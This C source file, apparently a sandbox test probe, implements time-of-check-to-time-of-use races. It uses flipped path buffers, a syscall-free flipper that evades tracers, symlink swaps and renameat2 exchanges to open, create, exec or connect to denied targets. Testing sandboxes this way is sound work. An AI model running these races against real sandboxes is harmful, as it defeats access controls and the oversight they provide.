/* toctou: race a syscall's path argument against the sandbox's check of it.
 *
 * One probe per mode; each makes ATTEMPTS tries and prints "successes=K attempts=N" on stdout
 * (plus, for the read modes, the first protected content it got: the harness looks for the
 * marker in the output). Paths of unequal length are padded with leading slashes so the flip is
 * a plain overwrite of one buffer.
 *
 *   toctou open-thread    ALLOWED DENIED N   a thread flips the buffer; main opens + reads it
 *   toctou open-clonevm   ALLOWED DENIED N   a second process made by clone(CLONE_VM) flips it
 *   toctou open-shared    ALLOWED DENIED N   a forked process flips a MAP_SHARED buffer
 *   toctou creat-thread   ALLOWED DENIED N   open(O_CREAT) of the flipping path; stops when
 *                                            DENIED exists
 *   toctou rename-thread  SRC ALLOWED DENIED N  rename(SRC, flipping dst), moved back when it
 *                                            landed on ALLOWED; stops when DENIED exists
 *   toctou exec-shared    ALLOWED DENIED N   a forked flipper, a MAP_SHARED path; each try
 *                                            forks a child that execs the path
 *   toctou symlink-swap   LINK ALLOWED DENIED N  a thread re-points the symlink LINK between
 *                                            two targets (symlink + rename); main opens LINK
 *   toctou exchange-swap  DIR LINK N          a thread swaps the directory DIR and the symlink
 *                                            LINK (-> a protected directory) with
 *                                            renameat2(RENAME_EXCHANGE); main opens DIR/secret:
 *                                            a resolved path is only as good as its directories
 *   toctou exchange-creat DIR LINK N         the same swap (LINK -> a write-protected directory);
 *                                            main creates DIR/new.txt; stops when the file
 *                                            appeared behind LINK's target
 *   toctou exchange-connect DIR LINK NAME N   the swap again (LINK -> the directory of a denied
 *                                            listener NAME); we listen on DIR/NAME ourselves and
 *                                            connect to DIR/NAME; a win is a peer outside DIR
 *   toctou exchange-exec  DIR LINK NAME N    the swap again (LINK -> a spawn-protected directory
 *                                            holding NAME, which exits 42); each try forks and
 *                                            execs DIR/NAME (DIR/NAME exits 0)
 *   toctou connect-thread ALLOWED DENIED N   a unix stream connect whose sun_path flips between
 *                                            two socket paths (ALLOWED is ours, drained by a
 *                                            thread); a win is a peer named DENIED
 *   toctou argv-shared    PROG ALLOWED DENIED TARGET N  each try forks a child that execs
 *                                            PROG with argv {PROG, ARG, TARGET} where ARG (a
 *                                            MAP_SHARED buffer) flips between ALLOWED and DENIED:
 *                                            the command line is the thing checked
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define PATH_BUF 1024

struct flip {
    char *buffer;            /* the syscall's argument */
    char first[PATH_BUF];    /* ALLOWED, padded */
    char second[PATH_BUF];   /* DENIED, padded */
    size_t length;
    atomic_int *stop;
    atomic_long *flips;
};

static void pad_to(char *out, const char *path, size_t length)
{
    size_t own = strlen(path);
    size_t pad = length - own;
    memset(out, '/', pad);
    memcpy(out + pad, path, own + 1);
}

static void prepare(struct flip *f, char *buffer, atomic_int *stop, atomic_long *flips,
                    const char *allowed, const char *denied)
{
    size_t a = strlen(allowed), d = strlen(denied);
    f->length = a > d ? a : d;
    if (f->length + 1 >= PATH_BUF) {
        fprintf(stderr, "toctou: path too long\n");
        exit(2);
    }
    pad_to(f->first, allowed, f->length);
    pad_to(f->second, denied, f->length);
    f->buffer = buffer;
    f->stop = stop;
    f->flips = flips;
    memcpy(buffer, f->first, f->length + 1);
}

/* Flip as fast as memory allows; no syscalls, so a tracer never stops this thread. */
static void flip_forever(struct flip *f)
{
    volatile char *b = f->buffer;
    while (!atomic_load_explicit(f->stop, memory_order_relaxed)) {
        for (size_t i = 0; i < f->length; i++)
            b[i] = f->second[i];
        for (int spin = 0; spin < 64; spin++)
            __asm__ volatile("pause");
        for (size_t i = 0; i < f->length; i++)
            b[i] = f->first[i];
        for (int spin = 0; spin < 64; spin++)
            __asm__ volatile("pause");
        atomic_fetch_add_explicit(f->flips, 1, memory_order_relaxed);
    }
}

static void *flip_thread(void *arg)
{
    flip_forever(arg);
    return NULL;
}

static int flip_clone_child(void *arg)
{
    flip_forever(arg);
    return 0;
}

static char allowed_content[256];

static void load_allowed(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        perror(path);
        exit(2);
    }
    ssize_t n = read(fd, allowed_content, sizeof allowed_content - 1);
    allowed_content[n > 0 ? n : 0] = 0;
    close(fd);
}

/* One open + read; 1 when it returned something other than the allowed file's content. */
static int try_read(const char *buffer, int *printed)
{
    char got[256];
    int fd = open(buffer, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, got, sizeof got - 1);
    close(fd);
    if (n <= 0)
        return 0;
    got[n] = 0;
    if (strcmp(got, allowed_content) == 0)
        return 0;
    if (!*printed) {
        printf("got: %s", got);
        *printed = 1;
    }
    return 1;
}

static void report(long successes, long attempts)
{
    printf("successes=%ld attempts=%ld\n", successes, attempts);
    fflush(stdout);
}

enum flipper_kind { FLIP_THREAD, FLIP_CLONEVM, FLIP_FORK };

struct flipper {
    enum flipper_kind kind;
    pthread_t thread;
    pid_t pid;
};

static void start_flipper(struct flipper *fl, enum flipper_kind kind, struct flip *f)
{
    fl->kind = kind;
    if (kind == FLIP_THREAD) {
        if (pthread_create(&fl->thread, NULL, flip_thread, f) != 0) {
            perror("pthread_create");
            exit(2);
        }
    } else if (kind == FLIP_CLONEVM) {
        size_t size = 1 << 16;
        char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (stack == MAP_FAILED) {
            perror("mmap");
            exit(2);
        }
        /* A separate process (own tgid) sharing our memory: freezing our thread group alone
         * would not stop it. */
        fl->pid = clone(flip_clone_child, stack + size, CLONE_VM | SIGCHLD, f);
        if (fl->pid < 0) {
            perror("clone(CLONE_VM)");
            exit(2);
        }
    } else {
        fl->pid = fork();
        if (fl->pid < 0) {
            perror("fork");
            exit(2);
        }
        if (fl->pid == 0) {
            flip_forever(f);
            _exit(0);
        }
    }
}

static void stop_flipper(struct flipper *fl, atomic_int *stop)
{
    atomic_store(stop, 1);
    if (fl->kind == FLIP_THREAD) {
        pthread_join(fl->thread, NULL);
    } else {
        waitpid(fl->pid, NULL, 0);
    }
}

/* The buffer and the stop flag live in a MAP_SHARED mapping: a forked flipper writes the
 * parent's (and every later child's) copy. */
struct shared {
    atomic_int stop;
    atomic_long flips;
    char buffer[PATH_BUF];
};

static struct shared *new_shared(void)
{
    struct shared *s = mmap(NULL, sizeof *s, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS,
                            -1, 0);
    if (s == MAP_FAILED) {
        perror("mmap");
        exit(2);
    }
    memset(s, 0, sizeof *s);
    return s;
}

/* Start racing only once the flipper runs (else a fast loop ends before it starts). */
static void wait_for_flips(atomic_long *flips)
{
    while (atomic_load(flips) < 2)
        sched_yield();
}

static int mode_open(enum flipper_kind kind, const char *allowed, const char *denied, long n)
{
    struct shared *s = new_shared();
    struct flip f;
    struct flipper fl;
    int printed = 0;
    long successes = 0, i;
    load_allowed(allowed);
    prepare(&f, s->buffer, &s->stop, &s->flips, allowed, denied);
    start_flipper(&fl, kind, &f);
    wait_for_flips(&s->flips);
    for (i = 0; i < n; i++)
        successes += try_read(s->buffer, &printed);
    stop_flipper(&fl, &s->stop);
    report(successes, i);
    return 0;
}

static int mode_creat(const char *allowed, const char *denied, long n)
{
    struct shared *s = new_shared();
    struct flip f;
    struct flipper fl;
    long i, successes = 0;
    prepare(&f, s->buffer, &s->stop, &s->flips, allowed, denied);
    start_flipper(&fl, FLIP_THREAD, &f);
    wait_for_flips(&s->flips);
    for (i = 0; i < n; i++) {
        int fd = open(s->buffer, O_CREAT | O_WRONLY, 0644);
        if (fd >= 0)
            close(fd);
        if (access(denied, F_OK) == 0) {
            successes = 1;
            i++;
            break;
        }
        unlink(allowed);
    }
    stop_flipper(&fl, &s->stop);
    report(successes, i);
    return 0;
}

static int mode_rename(const char *source, const char *allowed, const char *denied, long n)
{
    struct shared *s = new_shared();
    struct flip f;
    struct flipper fl;
    long i, successes = 0;
    prepare(&f, s->buffer, &s->stop, &s->flips, allowed, denied);
    start_flipper(&fl, FLIP_THREAD, &f);
    wait_for_flips(&s->flips);
    for (i = 0; i < n; i++) {
        rename(source, s->buffer);
        if (access(denied, F_OK) == 0) {
            successes = 1;
            i++;
            break;
        }
        if (access(allowed, F_OK) == 0 && rename(allowed, source) != 0) {
            perror("rename back");
            break;
        }
    }
    stop_flipper(&fl, &s->stop);
    report(successes, i);
    return 0;
}

/* Each try: fork a child that execs the flipping path. ALLOWED exits 0; DENIED is any program
 * the policy forbids: its exit status 0 counts only when it was DENIED that ran, which the
 * child tells apart by what /proc/self/exe resolved to. */
static int mode_exec(const char *allowed, const char *denied, long n)
{
    struct shared *s = new_shared();
    struct flip f;
    struct flipper fl;
    long i, successes = 0;
    prepare(&f, s->buffer, &s->stop, &s->flips, allowed, denied);
    start_flipper(&fl, FLIP_FORK, &f);
    wait_for_flips(&s->flips);
    for (i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            perror("fork");
            break;
        }
        if (pid == 0) {
            char *argv[] = {"probe-exec", NULL};
            execv(s->buffer, argv);
            _exit(127);
        }
        int status;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 42) {
            successes++;
        }
    }
    stop_flipper(&fl, &s->stop);
    report(successes, i);
    return 0;
}

static void *drain(void *arg)
{
    int listener = *(int *)arg;
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            return NULL;
        close(fd);
    }
}

/* sun_path is the flipping buffer: the sockaddr itself lives in shared memory. */
struct shared_addr {
    atomic_int stop;
    atomic_long flips;
    struct sockaddr_un addr;
};

static int mode_connect(const char *allowed, const char *denied, long n)
{
    struct shared_addr *s = mmap(NULL, sizeof *s, PROT_READ | PROT_WRITE,
                                 MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    struct flip f;
    struct flipper fl;
    struct sockaddr_un own = {.sun_family = AF_UNIX};
    pthread_t drainer;
    static int listener;
    long i, successes = 0;
    if (s == MAP_FAILED || strlen(allowed) >= sizeof own.sun_path ||
        strlen(denied) >= sizeof own.sun_path) {
        fprintf(stderr, "toctou: bad socket paths\n");
        return 2;
    }
    listener = socket(AF_UNIX, SOCK_STREAM, 0);
    strcpy(own.sun_path, allowed);
    unlink(allowed);
    if (bind(listener, (struct sockaddr *)&own, sizeof own) < 0 || listen(listener, 128) < 0) {
        perror("bind/listen on the allowed socket");
        return 2;
    }
    pthread_create(&drainer, NULL, drain, &listener);
    s->addr.sun_family = AF_UNIX;
    prepare(&f, s->addr.sun_path, &s->stop, &s->flips, allowed, denied);
    start_flipper(&fl, FLIP_THREAD, &f);
    wait_for_flips(&s->flips);
    for (i = 0; i < n; i++) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(fd, (struct sockaddr *)&s->addr, sizeof s->addr) == 0) {
            struct sockaddr_un peer;
            socklen_t len = sizeof peer;
            memset(&peer, 0, sizeof peer);
            if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0 &&
                strcmp(peer.sun_path, denied) == 0)
                successes++;
        }
        close(fd);
    }
    stop_flipper(&fl, &s->stop);
    report(successes, i);
    return 0;
}

static int mode_argv(const char *program, const char *allowed, const char *denied,
                     const char *target, long n)
{
    struct shared *s = new_shared();
    struct flip f;
    struct flipper fl;
    long i, successes = 0;
    prepare(&f, s->buffer, &s->stop, &s->flips, allowed, denied);
    /* An argument cannot be padded with slashes like a path: the two must be equally long. */
    if (strlen(allowed) != strlen(denied)) {
        fprintf(stderr, "toctou: argv-shared needs arguments of equal length\n");
        return 2;
    }
    memcpy(f.first, allowed, strlen(allowed) + 1);
    memcpy(f.second, denied, strlen(denied) + 1);
    memcpy(s->buffer, allowed, strlen(allowed) + 1);
    start_flipper(&fl, FLIP_FORK, &f);
    wait_for_flips(&s->flips);
    for (i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            perror("fork");
            break;
        }
        if (pid == 0) {
            char *argv[] = {(char *)program, s->buffer, (char *)target, NULL};
            int null = open("/dev/null", O_WRONLY);
            dup2(null, 2);
            execv(program, argv);
            _exit(127);
        }
        waitpid(pid, NULL, 0);
        if (access(target, F_OK) != 0) {
            successes = 1;
            i++;
            break;
        }
    }
    stop_flipper(&fl, &s->stop);
    report(successes, i);
    return 0;
}

struct swap {
    const char *link, *first, *second;
    char temp[PATH_BUF];
    atomic_int stop;
};

static void *swap_thread(void *arg)
{
    struct swap *w = arg;
    int which = 0;
    while (!atomic_load_explicit(&w->stop, memory_order_relaxed)) {
        unlink(w->temp);
        if (symlink(which ? w->second : w->first, w->temp) == 0)
            rename(w->temp, w->link);
        which = !which;
    }
    return NULL;
}

struct exchange {
    const char *first, *second;
    atomic_int stop;
};

static void *exchange_thread(void *arg)
{
    struct exchange *x = arg;
    while (!atomic_load_explicit(&x->stop, memory_order_relaxed))
        syscall(SYS_renameat2, AT_FDCWD, x->first, AT_FDCWD, x->second, 2 /* EXCHANGE */);
    return NULL;
}

static int mode_exchange(const char *dir, const char *link, long n)
{
    struct exchange x = {.first = dir, .second = link};
    char path[PATH_BUF];
    pthread_t thread;
    int printed = 0;
    long i, successes = 0;
    snprintf(path, sizeof path, "%s/secret", dir);
    atomic_init(&x.stop, 0);
    load_allowed(path);
    pthread_create(&thread, NULL, exchange_thread, &x);
    for (i = 0; i < n; i++)
        successes += try_read(path, &printed);
    atomic_store(&x.stop, 1);
    pthread_join(thread, NULL);
    report(successes, i);
    return 0;
}

static int mode_exchange_creat(const char *dir, const char *link, long n)
{
    struct exchange x = {.first = dir, .second = link};
    char path[PATH_BUF], target[PATH_BUF], escaped[PATH_BUF + 16];
    pthread_t thread;
    long i, successes = 0;
    ssize_t len = readlink(link, target, sizeof target - 1);
    if (len <= 0) {
        perror(link);
        return 2;
    }
    target[len] = 0;
    snprintf(path, sizeof path, "%s/new.txt", dir);
    snprintf(escaped, sizeof escaped, "%s/new.txt", target);
    atomic_init(&x.stop, 0);
    pthread_create(&thread, NULL, exchange_thread, &x);
    for (i = 0; i < n; i++) {
        int fd = open(path, O_CREAT | O_WRONLY, 0644);
        if (fd >= 0)
            close(fd);
        if (access(escaped, F_OK) == 0) {
            successes = 1;
            i++;
            break;
        }
    }
    atomic_store(&x.stop, 1);
    pthread_join(thread, NULL);
    report(successes, i);
    return 0;
}

static int mode_exchange_connect(const char *dir, const char *link, const char *name, long n)
{
    struct exchange x = {.first = dir, .second = link};
    struct sockaddr_un own = {.sun_family = AF_UNIX}, target = {.sun_family = AF_UNIX};
    pthread_t thread, drainer;
    static int listener;
    long i, successes = 0;
    snprintf(own.sun_path, sizeof own.sun_path, "%s/%s", dir, name);
    memcpy(target.sun_path, own.sun_path, sizeof own.sun_path);
    listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&own, sizeof own) < 0 || listen(listener, 128) < 0) {
        perror("bind/listen in DIR");
        return 2;
    }
    pthread_create(&drainer, NULL, drain, &listener);
    atomic_init(&x.stop, 0);
    pthread_create(&thread, NULL, exchange_thread, &x);
    for (i = 0; i < n; i++) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(fd, (struct sockaddr *)&target, sizeof target) == 0) {
            struct sockaddr_un peer;
            socklen_t len = sizeof peer;
            memset(&peer, 0, sizeof peer);
            if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0 &&
                strcmp(peer.sun_path, own.sun_path) != 0)
                successes++;
        }
        close(fd);
    }
    atomic_store(&x.stop, 1);
    pthread_join(thread, NULL);
    report(successes, i);
    return 0;
}

static int mode_exchange_exec(const char *dir, const char *link, const char *name, long n)
{
    struct exchange x = {.first = dir, .second = link};
    char path[PATH_BUF];
    pthread_t thread;
    long i, successes = 0;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    atomic_init(&x.stop, 0);
    pthread_create(&thread, NULL, exchange_thread, &x);
    for (i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            perror("fork");
            break;
        }
        if (pid == 0) {
            char *argv[] = {path, NULL};
            execv(path, argv);
            _exit(127);
        }
        int status;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 42)
            successes++;
    }
    atomic_store(&x.stop, 1);
    pthread_join(thread, NULL);
    report(successes, i);
    return 0;
}

static int mode_symlink_swap(const char *link, const char *allowed, const char *denied, long n)
{
    struct swap w = {.link = link, .first = allowed, .second = denied};
    pthread_t thread;
    int printed = 0;
    long i, successes = 0;
    snprintf(w.temp, sizeof w.temp, "%s.tmp", link);
    atomic_init(&w.stop, 0);
    load_allowed(allowed);
    unlink(link);
    if (symlink(allowed, link) != 0) {
        perror("symlink");
        return 2;
    }
    pthread_create(&thread, NULL, swap_thread, &w);
    for (i = 0; i < n; i++)
        successes += try_read(link, &printed);
    atomic_store(&w.stop, 1);
    pthread_join(thread, NULL);
    report(successes, i);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: toctou MODE ARGS... (see the source)\n");
        return 2;
    }
    const char *mode = argv[1];
    if (argc == 5 && strncmp(mode, "open-", 5) == 0) {
        long n = atol(argv[4]);
        if (strcmp(mode, "open-thread") == 0)
            return mode_open(FLIP_THREAD, argv[2], argv[3], n);
        if (strcmp(mode, "open-clonevm") == 0)
            return mode_open(FLIP_CLONEVM, argv[2], argv[3], n);
        if (strcmp(mode, "open-shared") == 0)
            return mode_open(FLIP_FORK, argv[2], argv[3], n);
    }
    if (argc == 5 && strcmp(mode, "creat-thread") == 0)
        return mode_creat(argv[2], argv[3], atol(argv[4]));
    if (argc == 6 && strcmp(mode, "rename-thread") == 0)
        return mode_rename(argv[2], argv[3], argv[4], atol(argv[5]));
    if (argc == 5 && strcmp(mode, "exec-shared") == 0)
        return mode_exec(argv[2], argv[3], atol(argv[4]));
    if (argc == 5 && strcmp(mode, "exchange-swap") == 0)
        return mode_exchange(argv[2], argv[3], atol(argv[4]));
    if (argc == 5 && strcmp(mode, "exchange-creat") == 0)
        return mode_exchange_creat(argv[2], argv[3], atol(argv[4]));
    if (argc == 6 && strcmp(mode, "exchange-connect") == 0)
        return mode_exchange_connect(argv[2], argv[3], argv[4], atol(argv[5]));
    if (argc == 6 && strcmp(mode, "exchange-exec") == 0)
        return mode_exchange_exec(argv[2], argv[3], argv[4], atol(argv[5]));
    if (argc == 5 && strcmp(mode, "connect-thread") == 0)
        return mode_connect(argv[2], argv[3], atol(argv[4]));
    if (argc == 7 && strcmp(mode, "argv-shared") == 0)
        return mode_argv(argv[2], argv[3], argv[4], argv[5], atol(argv[6]));
    if (argc == 6 && strcmp(mode, "symlink-swap") == 0)
        return mode_symlink_swap(argv[2], argv[3], argv[4], atol(argv[5]));
    fprintf(stderr, "toctou: bad mode or arguments\n");
    return 2;
}
